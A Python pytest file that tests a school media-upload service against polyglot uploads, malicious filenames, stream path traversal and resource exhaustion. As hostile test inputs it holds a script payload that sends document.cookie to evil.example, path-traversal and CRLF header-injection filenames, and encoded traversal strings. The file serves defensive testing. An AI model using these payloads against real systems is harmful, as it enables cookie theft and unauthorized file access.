"""What somebody might try with files: two kinds in one, odd names, work for nothing."""

import asyncio
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from backend.database import execute, fetch
from backend.media import jobs, permissions, rules
from backend.media.models import Attachment
from backend.media.storage import Files, open_files
from backend.settings import Settings
from tests.house import Visitor
from tests.media import corpus
from tests.media.films import film
from tests.media.parts import begin, complete, send, send_all
from tests.media.phones import PHOTO, fetch_link, upload

HTML = b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"
SAFE = "default-src 'none'"


@pytest.fixture
def house_files(settings: Settings) -> Files:
    return open_files(settings)


def in_a_free_box(data: bytes) -> bytes:
    """Put a page right behind the first box, where no player looks."""
    end = struct.unpack(">I", data[:4])[0]
    box = struct.pack(">I4s", 8 + len(HTML), b"free") + HTML
    return data[:end] + box + data[end:]


def behind_the_end(data: bytes) -> bytes:
    return data + HTML


def in_the_first_box(data: bytes) -> bytes:
    """Let the page stand among the brands, within what is sniffed."""
    end = struct.unpack(">I", data[:4])[0]
    page = HTML.ljust(-(-len(HTML) // 4) * 4)
    return struct.pack(">I", end + len(page)) + data[4:end] + page + data[end:]


@pytest.mark.parametrize("hide", [in_a_free_box, behind_the_end, in_the_first_box])
async def test_a_page_hidden_in_a_film_is_not_handed_out(
    teacher: Visitor, anyone: Visitor, school: str, house_files: Files, tmp_path: Path,
    hide: Callable[[bytes], bytes],
) -> None:  # fmt: skip
    path = film(tmp_path / "a.mp4", options={"movflags": "+faststart"})
    # What is put in moves the film, so its index comes last and is looked up from there.
    data = hide(await asyncio.to_thread(path.read_bytes))
    begun = await begin(teacher, data, school, name="page.html.mp4")
    await send_all(teacher, begun, data)
    told = (await complete(teacher, begun)).json()
    assert told["kind"] == "video"
    await jobs.prepare(house_files, ladders=False)
    told = (await complete(teacher, begun)).json()
    if told["state"] == "failed":
        assert told["url"] is None
        return
    answer = await fetch_link(anyone, told["url"])
    assert answer.status_code == 200
    assert b"evil.example" not in answer.content
    assert b"<script" not in answer.content
    assert answer.headers["content-type"] == "video/mp4"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-security-policy"].startswith(SAFE)


@pytest.mark.parametrize("in_parts", [False, True])
async def test_a_page_in_a_document_stays_a_document_to_be_saved(
    teacher: Visitor, anyone: Visitor, school: str, in_parts: bool
) -> None:
    data = b"%PDF-1.7\n" + HTML + b"\n%%EOF\n"
    if in_parts:
        begun = await begin(teacher, data, school, name="通知.html")
        await send_all(teacher, begun, data)
        told = (await complete(teacher, begun)).json()
    else:
        told = (await upload(teacher, data, "通知.html", "text/html", schoolId=school)).json()
    assert told["filename"] == "通知.pdf"
    answer = await fetch_link(anyone, told["url"])
    assert answer.headers["content-type"] == "application/pdf"
    assert answer.headers["content-disposition"].startswith("attachment; ")
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in answer.headers["content-security-policy"]


@pytest.mark.parametrize("page", [HTML, b"\xff\xfe" + HTML, b"GIF89a" + HTML, b"<svg>" + HTML])
async def test_what_the_first_part_was_is_looked_at_again_when_it_is_whole(
    teacher: Visitor, school: str, monkeypatch: pytest.MonkeyPatch, page: bytes
) -> None:
    """The first part can be replaced; one that is no film is not taken in its place."""
    monkeypatch.setattr(rules, "PART_BYTES", 1_000)
    whole = (await asyncio.to_thread(_small_film)) + bytes(2_000)
    begun = await begin(teacher, whole, school)
    await send_all(teacher, begun, whole)
    swapped = await send(teacher, begun, 1, page.ljust(1_000))
    assert (swapped.status_code, swapped.json()["code"]) == (415, "media_type_refused")
    # As if it had got in all the same.
    monkeypatch.setattr(rules, "sniff_any", lambda head: rules.Format.MP4)
    assert (await send(teacher, begun, 1, page.ljust(1_000))).status_code == 204
    monkeypatch.undo()
    answer = await complete(teacher, begun)
    assert (answer.status_code, answer.json()["code"]) == (415, "media_type_refused")
    assert await Attachment.all().count() == 0


def _small_film() -> bytes:
    return b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isommp41" + bytes(1_000)


async def test_a_film_may_not_turn_into_a_document_too_large_to_be_one(
    teacher: Visitor, school: str
) -> None:
    size = rules.MAX_PDF_BYTES + 1
    body = {"filename": "a.mp4", "byteSize": size, "schoolId": school}
    begun = (await teacher.post("/uploads", json=body)).json()
    part = corpus.PDF.ljust(begun["partBytes"], b"\x00")
    answer = await send(teacher, begun, 1, part)
    assert (answer.status_code, answer.json()["code"]) == (413, "file_too_large")


NAMES = [
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini.mp4",
    'a"; filename=evil.exe; x=".mp4',
    "a.mp4; attachment",
    "%2e%2e%2f%00.mp4",
    "a'b''c.mp4",
    "CON.mp4",
    ".htaccess",
    "😀" * 100 + ".mp4",
    "a.mp4.html.exe",
    "～／＼.mp4",
]


@pytest.mark.parametrize("name", NAMES)
async def test_a_name_leads_nowhere_and_breaks_no_header(
    teacher: Visitor, anyone: Visitor, school: str, settings: Settings, name: str
) -> None:
    data = corpus.PDF
    begun = await begin(teacher, data, school, name=name)
    await send_all(teacher, begun, data)
    told = (await complete(teacher, begun)).json()
    assert told["filename"].endswith(".pdf")
    assert not set(told["filename"]) & set('/\\"<>:|?*%\r\n')
    row = await Attachment.get(id=told["id"])
    place = (settings.data_dir / "files" / row.original_key).resolve()
    assert place.is_relative_to((settings.data_dir / "files").resolve())
    assert place.name.startswith(row.original_key.split("/")[1])
    answer = await fetch_link(anyone, told["url"])
    sent = answer.headers["content-disposition"]
    assert sent.isascii()
    assert sent.startswith("attachment; filename=\"original.pdf\"; filename*=UTF-8''")
    assert set(sent.split("''", 1)[1]) <= set(
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~%"
    )


@pytest.mark.parametrize("name", ["a\r\nSet-Cookie: a=b.mp4", "a\x00.mp4", "a\u2028b.mp4"])
async def test_a_name_with_line_breaks_is_not_taken(
    teacher: Visitor, school: str, name: str
) -> None:
    body = {"filename": name, "byteSize": 5, "schoolId": school}
    answer = await teacher.post("/uploads", json=body)
    if answer.status_code == 201:
        # A separator that only some take for a line break is dropped from what is shown.
        assert "\u2028" not in rules.display_name(name, "video/mp4")
        return
    assert answer.status_code == 400


async def test_work_for_nothing_is_not_done_without_end(teacher: Visitor, school: str) -> None:
    """A file refused only when it is whole costs the house as much at every attempt."""
    data = PHOTO[: len(PHOTO) // 2]
    begun = await begin(teacher, data, school)
    await send_all(teacher, begun, data)
    for _ in range(2):
        assert (await complete(teacher, begun)).json()["code"] == "image_unreadable"
    [spent] = await fetch("SELECT used FROM limits WHERE name = 'upload_joinings'")
    assert spent == {"used": 2}
    # As if the rest of the day's attempts had been spent.
    await execute("UPDATE limits SET used = 200 WHERE name = 'upload_joinings'")
    answer = await complete(teacher, begun)
    assert (answer.status_code, answer.json()["code"]) == (429, "too_many_requests")
    state = (await teacher.get(f"/uploads/{begun['id']}")).json()["state"]
    assert state == "receiving", "a refused attempt must not keep the upload shut"


async def test_asking_for_what_is_complete_or_incomplete_costs_nothing(
    teacher: Visitor, school: str
) -> None:
    data = corpus.PDF
    begun = await begin(teacher, data, school)
    assert (await complete(teacher, begun)).json()["code"] == "parts_missing"
    assert await fetch("SELECT used FROM limits WHERE name = 'upload_joinings'") == []
    await send_all(teacher, begun, data)
    for _ in range(3):
        assert (await complete(teacher, begun)).status_code == 200
    assert await fetch("SELECT used FROM limits WHERE name = 'upload_joinings'") == [{"used": 1}]


STREAM_NAMES: list[Any] = [
    "..", ".", "...m3u8", "../film.mp4", "..%2ffilm.mp4", "..%5cfilm.mp4", "%2e%2e%2ffilm.mp4",
    "%252e%252e%252ffilm.mp4", "master.m3u8%00", "master.m3u8%0a", "master.m3u8%20", "a%2fb.ts",
    "film.mp4", "film.mp4%00.ts", "poster.jpg", "master.M3U8", "master.m3u8.html", ".m3u8",
    "a" * 61 + ".ts", "ｍaster.m3u8", "master.m3u8;x=.ts", "master.m3u8?x=", "master", "*.ts",
]  # fmt: skip


async def test_a_stream_has_no_way_out_of_its_folder(
    teacher: Visitor, anyone: Visitor, school: str, house_files: Files, tmp_path: Path
) -> None:
    row = await _streamed(teacher, school, house_files, "aa/room")
    url = row["streamUrl"]
    assert (await fetch_link(anyone, url)).content == b"#EXTM3U\n"
    start = url.rpartition("/")[0]
    for name in STREAM_NAMES:
        answer = await fetch_link(anyone, f"{start}/{name}")
        allowed = (200,) if "?" in name else (400, 404)
        assert answer.status_code in allowed, name
        assert b"the film itself" not in answer.content, name


async def test_made_up_sign_ins_do_not_fill_the_memory(
    teacher: Visitor, anyone: Visitor, school: str, house_files: Files,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    """What is remembered for a moment is remembered for each sign-in it came with."""
    monkeypatch.setattr(permissions, "_MOST_REMEMBERED", 5)
    permissions._opened.clear()
    url = (await _streamed(teacher, school, house_files, "ab/room"))["streamUrl"]
    for number in range(40):
        answer = await fetch_link(anyone, url, Authorization=f"Bearer made-up-{number}")
        assert answer.status_code == 200
        assert len(permissions._opened) <= 5
    permissions._opened.clear()


async def _streamed(teacher: Visitor, school: str, files: Files, room: str) -> dict[str, Any]:
    """A film with a stream, as its uploader's phone sees it."""
    for key, data in (
        (f"{room}/film-1/film.mp4", b"the film itself"),
        (f"{room}/hls-1/master.m3u8", b"#EXTM3U\n"),
        (f"{room}/film.mp4", b"the film itself"),
        (f"{room}/hls-1x/a.ts", b"the film itself"),
    ):
        await files.delete(key)
        await files.put(key, data)
    data = _small_film()
    begun = await begin(teacher, data, school)
    await send_all(teacher, begun, data)
    told = (await complete(teacher, begun)).json()
    await execute(
        "UPDATE attachments SET state = 'ready', duration_ms = 1000, width = 320, height = 240, "
        "original_key = $2, stream_key = $3 WHERE id = $1",
        told["id"], f"{room}/film-1/film.mp4", f"{room}/hls-1",
    )  # fmt: skip
    shown: dict[str, Any] = (await complete(teacher, begun)).json()
    return shown
